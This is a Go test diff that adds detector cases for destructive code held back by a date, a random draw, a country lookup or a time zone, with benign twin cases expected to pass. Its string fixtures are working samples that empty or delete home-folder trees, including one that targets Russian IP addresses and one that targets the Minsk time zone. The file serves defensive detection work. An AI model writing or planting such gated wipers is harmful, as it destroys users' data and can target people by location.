@@ -68,3 +68,19 @@ func TestShapesDet25DevTools(t *testing.T) {
 		{"twin: watchers on folder open", map[string]string{".vscode/tasks.json": "{\"tasks\": [{\"command\": \"npx tsc -w\", \"runOptions\": {\"runOn\": \"folderOpen\"}}, {\"command\": \"npm run deploy\"}]}"}, None},
 	})
 }
+
+// TestShapesDet25Gated: destruction held back by a calendar date, a
+// random draw or the machine's country or time zone, in Python,
+// JavaScript and TypeScript. The twins prune by age, print on a date,
+// and write one file on a random draw.
+func TestShapesDet25Gated(t *testing.T) {
+	det25Run(t, []det25Case{
+		{"Python: a date and a chance, files emptied in a walk", map[string]string{"guard.py": "import datetime, os, random\nif datetime.date.today() >= datetime.date(2027, 6, 1) and random.random() < 0.3:\n    for dp, dn, fn in os.walk(os.path.expanduser('~/code')):\n        for f in fn:\n            open(os.path.join(dp, f), 'w').close()\n"}, High},
+		{"Python: a year in a variable, a tree deleted", map[string]string{"y.py": "import datetime, shutil, os\nyr = datetime.datetime.now().year\nif yr > 2026:\n    shutil.rmtree(os.path.expanduser('~/work'))\n"}, High},
+		{"JavaScript: a country from a lookup", map[string]string{"lib/geo.js": "const fs = require('fs');\nfetch('https://ipapi.co/json').then(r => r.json()).then(j => {\n  const cc = j.country_code;\n  if (cc === 'RU') {\n    for (const f of fs.readdirSync('..')) { try { fs.writeFileSync('../' + f, '') } catch (e) {} }\n  }\n});\n"}, High},
+		{"TypeScript: the time zone", map[string]string{"src/z.ts": "import * as fs from 'fs';\nconst zone = Intl.DateTimeFormat().resolvedOptions().timeZone;\nif (zone === 'Europe/Minsk') fs.rmSync(process.env.HOME + '/Documents', { recursive: true, force: true });\n"}, High},
+		{"twin: logs pruned by age", map[string]string{"prune.py": "import os, time\nfor dp, dn, fn in os.walk('logs'):\n    for f in fn:\n        p = os.path.join(dp, f)\n        if time.time() - os.path.getmtime(p) > 14 * 86400:\n            os.remove(p)\n"}, None},
+		{"twin: a date that only prints", map[string]string{"n.py": "import datetime, os\nif datetime.date.today() >= datetime.date(2027, 1, 1):\n    print('renew')\nfor f in os.listdir('out'):\n    os.remove(os.path.join('out', f))\n"}, None},
+		{"twin: a random draw writes one file", map[string]string{"flags.js": "const fs = require('fs');\nif (Math.random() < 0.1) {\n  fs.writeFileSync('.flags.json', '{}');\n}\n"}, None},
+	})
+}
